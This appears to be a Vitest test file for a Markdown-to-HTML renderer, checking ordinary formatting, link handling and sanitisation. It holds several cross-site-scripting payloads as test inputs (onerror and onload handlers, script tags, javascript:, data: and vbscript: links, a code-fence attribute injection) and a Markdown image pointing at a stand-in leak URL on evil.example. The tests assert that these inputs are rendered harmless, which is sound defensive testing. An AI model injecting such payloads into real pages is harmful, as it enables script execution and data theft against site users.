import { renderMarkdown } from './markdown-html';

/** Renders `source` into a fresh element attached to the page (so a script would really run). */
function render(source: string): HTMLElement {
  const host = document.createElement('div');
  host.appendChild(renderMarkdown(source));
  document.body.appendChild(host);
  return host;
}

/** Every attribute of every element whose name starts with `on` (an event handler). */
function handlerAttributes(root: Element): string[] {
  return Array.from(root.querySelectorAll('*')).flatMap((element) =>
    Array.from(element.attributes)
      .filter((attribute) => attribute.name.toLowerCase().startsWith('on'))
      .map((attribute) => `${element.tagName}[${attribute.name}]`),
  );
}

describe('renderMarkdown', () => {
  let alerts: unknown[];

  beforeEach(() => {
    alerts = [];
    vi.spyOn(window, 'alert').mockImplementation((message) => alerts.push(message));
  });

  afterEach(() => {
    document.body.replaceChildren();
    vi.restoreAllMocks();
  });

  it('renders paragraphs, emphasis, headings, lists, quotes and inline code', () => {
    const host = render(
      '# Title\n\nSome **bold**, *italic* and `code`.\n\n- one\n- two\n\n1. first\n2. second\n\n> quoted\n',
    );
    expect(host.querySelector('h1')?.textContent).toBe('Title');
    expect(host.querySelector('p strong')?.textContent).toBe('bold');
    expect(host.querySelector('p em')?.textContent).toBe('italic');
    expect(host.querySelector('p code')?.textContent).toBe('code');
    expect(Array.from(host.querySelectorAll('ul > li'), (li) => li.textContent)).toEqual([
      'one',
      'two',
    ]);
    expect(host.querySelectorAll('ol > li')).toHaveLength(2);
    expect(host.querySelector('blockquote p')?.textContent).toBe('quoted');
  });

  it('renders GFM tables with their alignment', () => {
    const host = render('| Name | Count |\n| :--- | ----: |\n| apples | 3 |\n| pears | 12 |\n');
    const table = host.querySelector('table')!;
    expect(Array.from(table.querySelectorAll('th'), (th) => th.textContent)).toEqual([
      'Name',
      'Count',
    ]);
    expect(table.querySelectorAll('tbody tr')).toHaveLength(2);
    expect(table.querySelector('tbody td:last-child')?.getAttribute('align')).toBe('right');
  });

  it('renders fenced code with a language class and a copy button, escaping its content', () => {
    const host = render('```ts\nconst a = "<b>" && 1 < 2;\n```\n');
    const code = host.querySelector('pre > code')!;
    expect(code.className).toBe('language-ts');
    expect(code.textContent).toBe('const a = "<b>" && 1 < 2;');
    expect(host.querySelector('b')).toBeNull();
    const copy = host.querySelector('[data-testid="copy-code"]')!;
    expect(copy.tagName).toBe('BUTTON');
    expect(copy.getAttribute('type')).toBe('button');
    expect(copy.nextElementSibling?.tagName).toBe('PRE');
  });

  it('drops a language that is not a plain word', () => {
    const host = render('```"><img src=x onerror=alert(1)>\nx\n```\n');
    expect(host.querySelector('pre > code')?.hasAttribute('class')).toBe(false);
    expect(host.querySelector('img')).toBeNull();
  });

  it('keeps http, https and mailto links, opening in a new tab without opener or referrer', () => {
    const host = render('[a](https://a.example/x) [b](http://b.example) [c](mailto:c@example.com)');
    const links = Array.from(host.querySelectorAll('a'));
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://a.example/x',
      'http://b.example',
      'mailto:c@example.com',
    ]);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it.each([
    ['javascript', '[x](javascript:alert(1))'],
    ['encoded javascript', '[x](jav&#x61;script:alert(1))'],
    ['data', '[x](data:text/html,<script>alert(1)</script>)'],
    ['vbscript', '[x](vbscript:msgbox(1))'],
    ['relative', '[x](/admin)'],
    ['autolink', '<javascript:alert(1)>'],
  ])('drops the target of a %s link', (_, source) => {
    const host = render(source);
    expect(host.querySelector('a[href]')).toBeNull();
    expect(handlerAttributes(host)).toEqual([]);
  });

  it.each([
    ['an image tag', '<img src=x onerror=alert(1)>'],
    ['a script tag', '<script>alert(1)</script>'],
    ['an inline handler', 'Hi <b onmouseover=alert(1)>there</b>'],
    ['an iframe', '<iframe src="javascript:alert(1)"></iframe>'],
    ['an svg', '<svg onload=alert(1)><circle r=1 /></svg>'],
    ['a style', '<style>body{display:none}</style>'],
  ])('shows %s as text, never as HTML', async (_, source) => {
    const host = render(source);
    expect(host.textContent).toContain(source);
    expect(host.querySelector('img, script, iframe, svg, style, b')).toBeNull();
    expect(handlerAttributes(host)).toEqual([]);
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(alerts).toEqual([]);
  });

  it('shows a Markdown image as its alt text, loading nothing', () => {
    const host = render('![a secret](https://evil.example/leak?data=1)');
    expect(host.querySelector('img')).toBeNull();
    expect(host.textContent?.trim()).toBe('a secret');
  });
});
